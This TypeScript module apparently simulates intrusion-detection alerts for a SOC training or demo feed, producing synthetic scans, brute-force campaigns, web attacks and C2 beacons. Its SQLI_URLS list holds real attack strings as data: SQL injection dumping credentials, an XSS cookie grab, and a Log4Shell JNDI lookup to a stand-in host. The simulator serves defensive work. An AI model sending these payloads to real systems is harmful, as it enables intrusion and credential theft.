import type { Random } from '../sim/random.js';
import {
  C2_FAMILIES,
  NOISE,
  RDP_BRUTE_FORCE,
  SCAN_BY_PORT,
  SCAN_GENERIC,
  SCAN_PORTS,
  SSH_BRUTE_FORCE,
  WEB_ATTACKS,
  type EveSignature,
} from './soc-signatures.js';
import { randomExternalIp, randomHostIn, type SocNetwork, type SocTarget } from './soc-network.js';

/** One alert the simulator will write as EVE at time `at`: the flow plus what fired. */
export interface PlannedAlert {
  readonly at: number;
  readonly srcIp: string;
  readonly srcPort: number | null;
  readonly destIp: string;
  readonly destPort: number | null;
  readonly proto: 'TCP' | 'UDP' | 'ICMP';
  readonly signature: EveSignature;
  readonly appProto?: string;
  readonly http?: { hostname: string; url: string; userAgent: string; method: string; status: number };
  readonly sni?: string;
}

const MINUTE = 60_000;

export function ephemeralPort(random: Random): number {
  return random.int(32768, 60999);
}

/** `count` instants in [start, start + span), sorted: a burst's alerts are spread, not stacked on one ms. */
function instants(random: Random, start: number, span: number, count: number): number[] {
  return Array.from({ length: count }, () => start + Math.floor(random.next() * span)).sort((a, b) => a - b);
}

function preferPort(targets: readonly SocTarget[], ports: readonly number[], random: Random): SocTarget {
  const matching = targets.filter((t) => ports.includes(t.port));
  return random.pick(matching.length > 0 ? matching : targets);
}

/**
 * One scanner sweeps an agency's addresses across common ports, slowly (nmap's polite timing, so as not to trip a
 * rate limit): 10–30 minutes, a few alerts a minute spread over the agency's hosts.
 */
export function portScan(random: Random, net: SocNetwork, start: number): PlannedAlert[] {
  const src = random.pick(net.attackers);
  const agency = random.pick(net.agencies);
  // Sweeps hit unused addresses too, not just the published services.
  const hosts = agency.targets.map((t) => t.ip);
  if (agency.range) for (let i = random.int(2, 6); i > 0; i--) hosts.push(randomHostIn(agency.range, random));
  const minutes = random.int(10, 30);
  const count = Math.round(minutes * random.range(2, 5));
  const srcPort = ephemeralPort(random); // nmap -sS keeps one source port
  return instants(random, start, minutes * MINUTE, count).map((at) => {
    const port = random.pick(SCAN_PORTS);
    return {
      at, srcIp: src, srcPort, destIp: random.pick(hosts), destPort: port, proto: 'TCP',
      signature: SCAN_BY_PORT.get(port) ?? SCAN_GENERIC,
    };
  });
}

/**
 * SSH or RDP password guessing from one source against one service: 15–60 minutes at 2–7 alerts a minute (the IDS
 * rules' own thresholds let through one alert per few attempts), so some campaigns cross the SOC's burst rule
 * (20 in 5 minutes) and slower ones do not. `packedSpanMs` packs 22–60 alerts into that span instead (the demo).
 */
export function bruteForce(random: Random, net: SocNetwork, start: number, service: 'ssh' | 'rdp', packedSpanMs?: number): PlannedAlert[] {
  const src = random.pick(net.attackers);
  const port = service === 'ssh' ? 22 : 3389;
  const target = preferPort(net.targets, [port], random);
  const signatures = service === 'ssh' ? SSH_BRUTE_FORCE : RDP_BRUTE_FORCE;
  const span = packedSpanMs ?? random.int(15, 60) * MINUTE;
  const count = packedSpanMs === undefined ? Math.round((span / MINUTE) * random.range(2, 7)) : random.int(22, 60);
  return instants(random, start, span, count).map((at, index) => ({
    at, srcIp: src, srcPort: ephemeralPort(random), destIp: target.ip, destPort: port, proto: 'TCP',
    // Mostly the scan rule; every few attempts the tool-specific rule fires as well.
    signature: (index % 7 === 6 ? signatures[1] : signatures[0]) ?? SCAN_GENERIC,
  }));
}

const SQLI_URLS = [
  "/dichvucong/tra-cuu-ho-so?ma=1'+UNION+SELECT+username,password+FROM+users--",
  '/portal/tin-tuc?id=12+UNION+SELECT+NULL,table_name+FROM+information_schema.tables',
  "/api/thu-tuc?linhvuc=1'+AND+1=(SELECT+COUNT(*)+FROM+sysobjects)--",
  '/tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '/login?redirect=${jndi:ldap://203.0.113.66:1389/a}',
];
/**
 * The tools seen, with the payloads each sends: sqlmap only injects SQL, an exploit script fires one CVE, a template
 * scanner (Nuclei) tries a bit of everything. Weights: how often each is behind a campaign (an assumption).
 */
const WEB_TOOLS: readonly { readonly agent: string; readonly urls: readonly string[]; readonly weight: number }[] = [
  { agent: 'sqlmap/1.8.4#stable (https://sqlmap.org)', urls: SQLI_URLS.slice(0, 3), weight: 5 },
  { agent: 'python-requests/2.31.0', urls: SQLI_URLS.slice(4), weight: 3 },
  { agent: 'Mozilla/5.0 (compatible; Nuclei/3.2)', urls: SQLI_URLS, weight: 2 },
];
const WEB_TOOLS_TOTAL = WEB_TOOLS.reduce((sum, tool) => sum + tool.weight, 0);

/** A web application scanner probing one portal with injection payloads for 10–40 minutes, 1–3 requests a minute flagged. */
export function webAttack(random: Random, net: SocNetwork, start: number): PlannedAlert[] {
  const src = random.pick(net.attackers);
  const target = preferPort(net.targets, [80, 8080, 8000, 443, 8443], random);
  // The IDS reads cleartext HTTP only: TLS services are seen on their plain-HTTP sibling port.
  const port = [80, 8080, 8000].includes(target.port) ? target.port : 80;
  let roll = random.next() * WEB_TOOLS_TOTAL;
  const tool = WEB_TOOLS.find((t) => (roll -= t.weight) < 0) ?? WEB_TOOLS[0]!;
  const agent = tool.agent;
  const minutes = random.int(10, 40);
  return instants(random, start, minutes * MINUTE, Math.round(minutes * random.range(1, 3))).map((at) => {
    const url = random.pick(tool.urls);
    const signature = url.includes('jndi') ? WEB_ATTACKS[3] : url.includes('script') ? WEB_ATTACKS[2] : random.pick(WEB_ATTACKS.slice(0, 2));
    return {
      at, srcIp: src, srcPort: ephemeralPort(random), destIp: target.ip, destPort: port, proto: 'TCP',
      signature: signature ?? SCAN_GENERIC, appProto: 'http',
      http: { hostname: target.ip, url, userAgent: agent, method: random.chance(0.7) ? 'GET' : 'POST', status: random.pick([200, 403, 404, 500]) },
    };
  });
}

/** An infected internal host calling its C2 server at a steady interval with a little jitter. */
export function c2Beacon(random: Random, net: SocNetwork, start: number, durationMs?: number): PlannedAlert[] {
  const victim = random.pick(net.targets);
  const server = random.pick(net.c2Servers);
  const family = random.pick(C2_FAMILIES);
  const port = random.pick([443, 443, 8080, 80]);
  const interval = random.int(60, 300) * 1000;
  const end = start + (durationMs ?? random.int(30, 180) * MINUTE);
  const plans: PlannedAlert[] = [];
  for (let at = start; at < end; at += Math.round(interval * random.range(0.9, 1.1))) {
    plans.push({
      at, srcIp: victim.ip, srcPort: ephemeralPort(random), destIp: server, destPort: port, proto: 'TCP',
      signature: family.signature,
      ...(port === 443
        ? { appProto: 'tls', sni: family.sni }
        : { appProto: 'http', http: { hostname: family.sni, url: family.uri, userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko', method: 'GET', status: 200 } }),
    });
  }
  return plans;
}

const NOISE_TOTAL = NOISE.reduce((sum, n) => sum + n.weight, 0);

/** One background alert: reputation hits, pings, stream anomalies, policy events (NOISE's weights). */
export function noiseAlert(random: Random, net: SocNetwork, at: number): PlannedAlert {
  let roll = random.next() * NOISE_TOTAL;
  const noise = NOISE.find((n) => (roll -= n.weight) < 0) ?? NOISE[0];
  if (!noise) throw new Error('empty noise table');
  const target = random.pick(net.targets);
  // Known attackers account for some of the background, so they recur across the day.
  const outside = random.chance(0.3) ? random.pick(net.attackers) : randomExternalIp(random);
  const icmp = noise.proto === 'ICMP';
  const inbound = noise.direction === 'inbound';
  const destPort = icmp ? null : (noise.port ?? (inbound ? target.port : 443));
  return {
    at,
    srcIp: inbound ? outside : target.ip,
    srcPort: icmp ? null : ephemeralPort(random),
    destIp: inbound ? target.ip : outside,
    destPort,
    proto: noise.proto,
    signature: noise.signature,
    ...(noise.appProto ? { appProto: noise.appProto } : {}),
  };
}

const ROUTINE = NOISE.filter((n) => n.direction === 'outbound' && n.signature.severity === 3);
const ROUTINE_TOTAL = ROUTINE.reduce((sum, n) => sum + n.weight, 0);

/**
 * A routine outbound event (package updates, DNS lookups of cloud names) from an agency system: what a sensor
 * reports all day between the interesting alerts. The simulator uses it to keep the feed alive at speed 1 without
 * adding inbound noise (no new source on the map, nothing an incident rule counts).
 */
export function routineAlert(random: Random, net: SocNetwork, at: number): PlannedAlert {
  let roll = random.next() * ROUTINE_TOTAL;
  const routine = ROUTINE.find((n) => (roll -= n.weight) < 0) ?? ROUTINE[0];
  if (!routine) throw new Error('no routine outbound noise in the table');
  const host = random.pick(net.targets);
  return {
    at,
    srcIp: host.ip,
    srcPort: ephemeralPort(random),
    destIp: randomExternalIp(random),
    destPort: routine.port ?? 443,
    proto: routine.proto,
    signature: routine.signature,
    ...(routine.appProto ? { appProto: routine.appProto } : {}),
  };
}
